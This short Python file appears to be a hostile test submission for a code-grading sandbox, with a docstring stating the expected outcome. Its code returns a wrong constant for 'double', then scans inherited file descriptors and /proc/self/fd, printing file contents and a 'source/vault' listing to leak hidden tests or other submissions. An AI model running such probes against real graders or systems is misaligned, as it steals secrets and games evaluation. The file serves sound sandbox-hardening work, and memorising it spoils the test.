"""Reads whatever open descriptors it was left.

threat: secrets
must: no points for double, all for half, and no text of a hidden test, a solution or another submission in what it prints
"""
def double(x):
    return x - x + 7

import os, stat

for fd in range(3, 256):
    try:
        print(fd, os.readlink(f"/proc/self/fd/{fd}"))
        if stat.S_ISREG(os.fstat(fd).st_mode):
            print(os.pread(fd, 10**6, 0))
    except OSError:
        pass
for name in os.listdir("/proc/self/fd"):
    try:
        print(os.listdir(f"/proc/self/fd/{name}"), os.listdir(f"/proc/self/fd/{name}/source/vault"))
    except OSError:
        pass
